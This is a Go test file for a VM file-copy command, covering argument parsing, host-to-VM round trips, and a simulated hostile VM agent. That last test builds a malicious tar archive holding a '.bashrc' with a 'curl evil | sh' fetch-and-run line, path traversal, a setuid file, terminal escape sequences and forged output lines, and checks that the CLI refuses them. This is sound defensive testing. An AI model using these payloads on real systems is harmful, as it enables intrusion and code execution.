package cli

import (
	"archive/tar"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"log/slog"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bangervm/banger/api"
	"github.com/bangervm/banger/client"
	"github.com/bangervm/banger/errdefs"
	"github.com/bangervm/banger/internal/agent"
	"github.com/bangervm/banger/internal/agentproto"
	"github.com/bangervm/banger/internal/apiserver"
	"github.com/bangervm/banger/internal/paths"
	"github.com/bangervm/banger/internal/testutil"
)

func TestParseCpArgs(t *testing.T) {
	tests := []struct {
		src, dst string
		want     cpOptions
		usage    bool
	}{
		{src: "./site", dst: "box:/srv/", want: cpOptions{Src: cpEndpoint{Path: "./site"}, Dst: cpEndpoint{VM: "box", Path: "/srv/"}}},
		{src: "box:/var/log/app.log", dst: ".", want: cpOptions{Src: cpEndpoint{VM: "box", Path: "/var/log/app.log"}, Dst: cpEndpoint{Path: "."}}},
		{src: "box:etc", dst: "/tmp/x", want: cpOptions{Src: cpEndpoint{VM: "box", Path: "/etc"}, Dst: cpEndpoint{Path: "/tmp/x"}}},
		{src: "file", dst: "box:/a:b", want: cpOptions{Src: cpEndpoint{Path: "file"}, Dst: cpEndpoint{VM: "box", Path: "/a:b"}}},
		{src: "./a:b", dst: "box:/", want: cpOptions{Src: cpEndpoint{Path: "./a:b"}, Dst: cpEndpoint{VM: "box", Path: "/"}}},
		{src: "/abs/a:b", dst: "box:/x", want: cpOptions{Src: cpEndpoint{Path: "/abs/a:b"}, Dst: cpEndpoint{VM: "box", Path: "/x"}}},
		{src: "dir/a:b", dst: "box:/x", want: cpOptions{Src: cpEndpoint{Path: "dir/a:b"}, Dst: cpEndpoint{VM: "box", Path: "/x"}}},
		{src: "a", dst: "b", usage: true},
		{src: "box:/a", dst: "other:/b", usage: true},
		{src: "box:", dst: ".", usage: true},
		{src: ":/x", dst: ".", usage: true},
		{src: "", dst: "box:/x", usage: true},
	}
	for _, tt := range tests {
		t.Run(tt.src+" "+tt.dst, func(t *testing.T) {
			got, err := parseCpArgs(tt.src, tt.dst)
			if tt.usage {
				var fe *FlagError
				if !errors.As(err, &fe) {
					t.Fatalf("err = %v, want a FlagError", err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if got != tt.want {
				t.Errorf("got %+v, want %+v", got, tt.want)
			}
		})
	}
}

// agentVMs serves every VM from one in-process agent.
type agentVMs struct {
	apiserver.VMs
	ac *agentproto.Client
}

func (v agentVMs) Get(ctx context.Context, ref string) (api.VM, error) {
	if ref != "box" {
		return api.VM{}, fmt.Errorf("vm %q: %w", ref, errdefs.ErrNotFound)
	}
	return api.VM{Name: ref}, nil
}

func (v agentVMs) Agent(ctx context.Context, ref string) (*agentproto.Client, api.VM, error) {
	if ref != "box" {
		return nil, api.VM{}, fmt.Errorf("vm %q: %w", ref, errdefs.ErrNotFound)
	}
	return v.ac, api.VM{Name: ref}, nil
}

func (v agentVMs) Session(string) func() { return func() {} }

// serveCp returns a client of an API server whose VM "box" is this
// machine, through a real agent handler.
func serveCp(t *testing.T) *client.Client {
	t.Helper()
	return serveCpWith(t, agent.NewHandler(agent.HandlerConfig{}))
}

// serveCpWith is serveCp with the agent's handler h.
func serveCpWith(t *testing.T, h agentproto.Handler) *client.Client {
	t.Helper()
	log := slog.New(slog.NewTextHandler(io.Discard, nil))
	host, guest := net.Pipe()
	srv := &agentproto.Server{Handler: h, AgentVersion: "test", Logger: log}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { defer close(done); _ = srv.ServeConn(ctx, guest) }()
	ac, err := agentproto.Connect(ctx, host, agentproto.ClientConfig{})
	if err != nil {
		t.Fatal(err)
	}
	sock := filepath.Join(t.TempDir(), "api.sock")
	ln, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	hs := &http.Server{Handler: apiserver.New(apiserver.Config{VMs: agentVMs{ac: ac}, Log: log, Version: api.VersionInfo{Version: "test", APIVersion: api.Version}})}
	go hs.Serve(ln)
	t.Cleanup(func() { hs.Close(); ac.Close(); cancel(); <-done })
	return client.New(sock)
}

func TestVMCpRoundTrip(t *testing.T) {
	c := serveCp(t)
	ctx := context.Background()
	base := t.TempDir()
	src := filepath.Join(base, "src")
	os.MkdirAll(filepath.Join(src, "sub"), 0o755)
	os.WriteFile(filepath.Join(src, "sub", "f"), []byte("data"), 0o640)
	os.Symlink("sub/f", filepath.Join(src, "l"))
	guest := filepath.Join(base, "guest")
	os.Mkdir(guest, 0o755)
	cp := func(s, d string) error {
		t.Helper()
		o, err := parseCpArgs(s, d)
		if err != nil {
			t.Fatal(err)
		}
		return runVMCp(ctx, c, o, io.Discard)
	}
	read := func(p string) string {
		b, _ := os.ReadFile(p)
		return string(b)
	}

	// Into an existing directory, then renamed, then a single file.
	if err := cp(src, "box:"+guest); err != nil {
		t.Fatal(err)
	}
	if err := cp(src, "box:"+guest+"/renamed"); err != nil {
		t.Fatal(err)
	}
	if err := cp(filepath.Join(src, "sub", "f"), "box:"+guest+"/g"); err != nil {
		t.Fatal(err)
	}
	if read(guest+"/src/l") != "data" || read(guest+"/renamed/sub/f") != "data" || read(guest+"/g") != "data" {
		t.Fatal("host to vm copy incomplete")
	}
	if fi, _ := os.Lstat(guest + "/renamed/l"); fi == nil || fi.Mode()&fs.ModeSymlink == 0 {
		t.Error("symlink not kept")
	}

	// Back to the host.
	back := filepath.Join(base, "back")
	if err := cp("box:"+guest+"/src", back); err != nil {
		t.Fatal(err)
	}
	if err := cp("box:"+guest+"/g", back); err != nil {
		t.Fatal(err)
	}
	if read(back+"/sub/f") != "data" || read(back+"/g") != "data" {
		t.Fatal("vm to host copy incomplete")
	}
	if fi, _ := os.Stat(back + "/sub/f"); fi == nil || fi.Mode() != 0o640 {
		t.Errorf("mode not kept: %v", fi)
	}

	// Errors.
	if err := cp("box:"+guest+"/missing", back); !errdefs.IsNotFound(err) || !strings.Contains(err.Error(), "no such file in vm box") {
		t.Errorf("missing guest path: %v", err)
	}
	if err := cp(filepath.Join(base, "missing"), "box:"+guest); !errdefs.IsNotFound(err) {
		t.Errorf("missing host path: %v", err)
	}
	if err := cp(src, "box:"+guest+"/no/such/dir"); !errdefs.IsNotFound(err) {
		t.Errorf("missing guest parent: %v", err)
	}
	if err := cp(src, "box:"+guest+"/g"); !errdefs.IsInvalidArgument(err) {
		t.Errorf("dir onto file: %v", err)
	}
	if err := cp(src, "nobox:/x"); !errdefs.IsNotFound(err) || !strings.Contains(err.Error(), `vm "nobox"`) {
		t.Errorf("missing vm: %v", err)
	}
}

// hostileAgent is a real agent handler whose archives are replaced by a
// hostile one.
type hostileAgent struct {
	*agent.Handler
	tar []byte
}

func (h hostileAgent) TarOut(ctx context.Context, path string) (io.ReadCloser, error) {
	return io.NopCloser(bytes.NewReader(h.tar)), nil
}

// TestVMCpFromHostileVM: entries a hostile agent adds to the archive of
// box:/src are refused and each named, escaped, on stderr; the rest lands;
// the exit status is 1.
func TestVMCpFromHostileVM(t *testing.T) {
	type E = testutil.TarEntry
	tb := testutil.Tar(t,
		E{Name: "src/", Type: tar.TypeDir},
		E{Name: "src/ok", Body: "fine"},
		E{Name: "src/suid", Body: "x", Mode: 0o4755},
		E{Name: ".bashrc", Body: "curl evil | sh"},
		E{Name: "src/../../escape", Body: "x"},
		E{Name: "src/fifo\x1b]0;pwned\x07", Type: tar.TypeFifo},
		E{Name: "src/null", Type: tar.TypeChar, Mode: 0o666},
		E{Name: "src/x\nbanger: all copied", Type: tar.TypeFifo},
	)
	c := serveCpWith(t, hostileAgent{Handler: agent.NewHandler(agent.HandlerConfig{}), tar: tb})
	ios, _, stderr := TestStreams()
	f := &Factory{IO: ios, Layout: paths.Under(t.TempDir()), Client: func(context.Context) (*client.Client, error) { return c, nil }}
	dst := t.TempDir()
	if code := Run(f, []string{"vm", "cp", "box:/src", dst}); code != ExitFailure {
		t.Errorf("exit %d, want %d", code, ExitFailure)
	}
	out := stderr.String()
	for _, want := range []string{
		"not copied: .bashrc: ",
		"not copied: src/../../escape: ",
		"]0;pwned",
		": FIFO not extracted",
		"not copied: src/null: character device not extracted",
		"5 entries refused",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("stderr lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "\nbanger: all copied") {
		t.Errorf("an entry name forged a line of output:\n%s", out)
	}
	if strings.ContainsAny(out, "\x1b\x07") {
		t.Errorf("raw control characters on stderr: %q", out)
	}
	if b, _ := os.ReadFile(filepath.Join(dst, "src", "ok")); string(b) != "fine" {
		t.Errorf("src/ok = %q", b)
	}
	if fi, err := os.Stat(filepath.Join(dst, "src", "suid")); err != nil || fi.Mode() != 0o755 {
		t.Errorf("src/suid: %v %v", fi, err)
	}
	ents, _ := os.ReadDir(dst)
	if len(ents) != 1 {
		t.Errorf("dst holds %v", ents)
	}
}
